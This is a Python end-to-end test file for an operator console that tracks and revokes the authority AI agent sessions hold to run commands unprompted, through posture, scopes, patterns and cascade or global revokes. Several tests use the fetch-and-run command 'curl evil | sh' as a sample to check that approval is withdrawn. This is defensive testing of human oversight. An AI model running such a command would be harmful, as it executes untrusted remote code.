"""Every live authority in view, and stops that leave nothing approving: the session page's
"what approves it now" (the command line's `authority`), the tree's marks for scopes and
patterns, a cascade preview that lists what would still approve and a confirmation that takes
it under the same token, and a global revoke that says what it left. In Chromium where the
operator's eye matters, over HTTP where a request says it all; on each engine."""

from __future__ import annotations

import re
import subprocess
from typing import List

from playwright.sync_api import Page, expect

from conftest import OPERATOR, Console, cli, shoot
from test_flows import open_node, row, trusted_tree
from test_hostile import call, csrf_in, form, sign_in

#: A time as the command line writes it (2026-01-31T12:00:00.000Z) or the console (2026-01-31 12:00:00Z).
TIME = re.compile(r"\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(\.\d+)?Z")


def same_facts(lines: List[str]) -> List[str]:
    """Lines with their spacing and their times' format set aside: what each says."""
    return [TIME.sub("T", re.sub(r"\s+", " ", line).strip()) for line in lines if line.strip()]


def granted_tree(console: Console) -> None:
    """The seeds' trusted tree, with a scope on worker-1 and a pattern on worker-2."""
    trusted_tree(console)
    console.ledger.grant_scope("worker-1", "hotfix", ttl_seconds=3600, actor=OPERATOR)
    console.ledger.add_pattern("worker-2", "npm test", actor=OPERATOR)


def test_the_session_page_shows_everything_that_approves_it_as_the_command_line_does(
    console: Console, page: Page
) -> None:
    granted_tree(console)
    console.ledger.add_pattern("worker-1", "git status", actor=OPERATOR)
    page.goto(console.link("/session/worker-1"))
    authority = page.locator("#authority")
    expect(authority.locator("#approves")).to_have_text("worker-1 approves every command")
    expect(authority.locator(".posture-line")).to_have_text(
        f"posture: trust inherited via conductor > worker-1 from {OPERATOR}'s grant on conductor"
    )
    expect(authority.locator(".scope-line")).to_contain_text(f"scope: hotfix (granted by {OPERATOR}, until ")
    expect(authority.locator(".pattern-line")).to_have_text(f'pattern: "git status" (added by {OPERATOR})')
    shoot(page, console.place, "authority")
    shown = [authority.locator("#approves").inner_text()] + authority.locator("li").all_inner_texts()
    printed = subprocess.run(
        [cli(), "--db", console.place.target, "authority", "worker-1"], check=True, capture_output=True, text=True
    ).stdout.splitlines()
    assert same_facts(shown) == same_facts(printed)

    # After a cascade that leaves the scope, the page says so, live, as `authority` does.
    preview = console.ledger.revoke("conductor", "preview", actor=OPERATOR)
    console.ledger.revoke("conductor", "cascade", actor=OPERATOR, token=preview.token)
    expect(authority.locator(".posture-line")).to_have_text("posture: none")
    expect(authority.locator("#approves")).to_have_text("worker-1 approves every command")

    # What an ended session holds approves nothing, and the page says why.
    console.ledger.end("worker-1", actor=OPERATOR)
    page.goto(console.link("/session/worker-1"))
    expect(page.locator("#approves")).to_have_text("worker-1 approves nothing: every command asks")
    expect(page.locator(".withheld-line")).to_have_text("withheld: the session has ended: every command asks")


def test_the_tree_marks_the_sessions_that_hold_a_live_scope_or_patterns(console: Console, page: Page) -> None:
    granted_tree(console)
    console.ledger.add_pattern("worker-2", "cargo check", actor=OPERATOR)
    console.ledger.add_pattern("reviewer", "git log", actor=OPERATOR)
    page.goto(console.link("/"))
    expect(row(page, "reviewer").locator(".posture")).to_have_text("no posture")
    expect(row(page, "reviewer").locator(".standing")).to_have_text(["+1 pattern"])
    expect(row(page, "conductor").locator(".standing")).to_have_count(0)
    open_node(page, "conductor")
    expect(row(page, "worker-1").locator(".standing.scope")).to_have_text("+1 scope")
    expect(row(page, "worker-2").locator(".standing.pattern")).to_have_text("+2 patterns")
    shoot(page, console.place, "tree-grants")
    # The marks follow the ledger: a scope revoked elsewhere leaves the tree at once.
    console.ledger.revoke_scope("worker-1", "hotfix", actor=OPERATOR)
    expect(row(page, "worker-1").locator(".standing")).to_have_count(0)


def test_the_cascade_preview_lists_what_would_still_approve_and_its_confirmation_takes_it_leaving_decide_at_ask(
    console: Console, page: Page
) -> None:
    granted_tree(console)
    page.goto(console.link("/session/conductor/revoke"))
    still = page.locator("#still-approving tbody tr")
    expect(still).to_have_count(2)
    texts = still.all_inner_texts()
    assert texts[0].startswith(f"worker-1\t1\tscope hotfix (granted by {OPERATOR}, until ")
    assert texts[1] == f'worker-2\t1\tpattern "npm test" (added by {OPERATOR})'
    expect(page.locator("#still-count")).to_have_text("2")
    page.locator("#also-scopes").check()
    page.locator("#also-patterns").check()
    shoot(page, console.place, "preview-grants")
    page.locator("#confirm-cascade").click()
    expect(page.locator(".flash.done")).to_contain_text(
        "Revoked the posture of 4 sessions and revoked 2 scopes or patterns with it."
    )
    expect(page.locator(".flash.warning")).to_have_count(0)
    for session, command in [("worker-1", "curl evil | sh"), ("worker-2", "npm test"), ("conductor", "make deploy")]:
        decision = console.ledger.decide(session, command)
        assert (decision.approved, decision.reason) == (False, "nothing"), session
        assert not console.ledger.authority(session).approves_anything(), session
    assert [r.actor for r in console.ledger.audit(kind="scope.revoke")] == [OPERATOR]
    assert [r.actor for r in console.ledger.audit(kind="pattern.remove")] == [OPERATOR]


def test_a_cascade_without_the_boxes_says_what_it_left_approving(console: Console, page: Page) -> None:
    granted_tree(console)
    page.goto(console.link("/session/conductor/revoke"))
    page.locator("#also-scopes").check()
    page.locator("#confirm-cascade").click()
    expect(page.locator(".flash.done")).to_contain_text("and revoked 1 scope or pattern with it.")
    warning = page.locator(".flash.warning")
    expect(warning).to_contain_text("Still approves on their own (1)")
    expect(warning.locator("li")).to_have_text([f'worker-2: pattern "npm test" (added by {OPERATOR})'])
    assert console.ledger.decide("worker-2", "npm test").admitted_by == "pattern"
    assert not console.ledger.decide("worker-1", "curl evil | sh").approved


def test_a_grant_added_after_the_preview_makes_its_confirmation_409_and_revokes_nothing(console: Console) -> None:
    granted_tree(console)
    cookie = sign_in(console)
    page = call(console, "GET", "/session/conductor/revoke", [("Cookie", cookie)]).body
    token = re.search(r'name="token" value="([0-9a-f]{64})"', page)
    assert token
    console.ledger.add_pattern("worker-1", "make", actor=OPERATOR)
    head = console.ledger.audit_head()
    fields = {"propagation": "cascade", "token": token.group(1), "scopes": "1", "patterns": "1", "csrf": csrf_in(page)}
    content_type, body = form(fields)
    answer = call(console, "POST", "/session/conductor/revoke", [("Cookie", cookie), content_type], body)
    assert answer.status == 409
    assert 'id="stale"' in answer.body
    # The new preview lists the new grant, and keeps the boxes as they were.
    assert "&#34;make&#34; (added by alice)" in answer.body and 'id="also-patterns" checked' in answer.body
    assert console.ledger.audit_head() == head
    assert console.ledger.state("conductor").trust and console.ledger.authority("worker-1").approves_every_command()


def test_revoke_all_says_what_it_leaves_approving_and_can_take_it(console: Console) -> None:
    granted_tree(console)
    cookie = sign_in(console)
    csrf = csrf_in(call(console, "GET", "/revoke-all", [("Cookie", cookie)]).body)
    head = console.ledger.audit_head()
    content_type, body = form({"confirm": "revoke", "csrf": csrf})
    refused = call(console, "POST", "/revoke-all", [("Cookie", cookie), content_type], body)
    assert refused.status == 400 and "type &#39;revoke all&#39; to confirm" in refused.body
    assert console.ledger.audit_head() == head

    content_type, body = form({"confirm": "revoke all", "csrf": csrf})
    postures = call(console, "POST", "/revoke-all", [("Cookie", cookie), content_type], body)
    assert postures.status == 200
    assert re.search(r'id="revoked-count">4<', postures.body)
    assert re.search(r'id="still-count">2<', postures.body)
    assert "scope hotfix (granted by alice, until " in postures.body
    assert console.ledger.decide("worker-1", "curl evil | sh").admitted_by == "scope"

    content_type, body = form({"confirm": "revoke all", "scopes": "1", "patterns": "1", "csrf": csrf})
    everything = call(console, "POST", "/revoke-all", [("Cookie", cookie), content_type], body)
    assert everything.status == 200 and 'id="nothing-approves"' in everything.body
    assert re.search(r'id="grants-revoked">2<', everything.body)
    for session in ["conductor", "worker-1", "worker-2", "worker-1.review", "reviewer"]:
        assert not console.ledger.authority(session).approves_anything(), session
    assert {r.actor for r in console.ledger.audit(kind="scope.revoke")} == {OPERATOR}
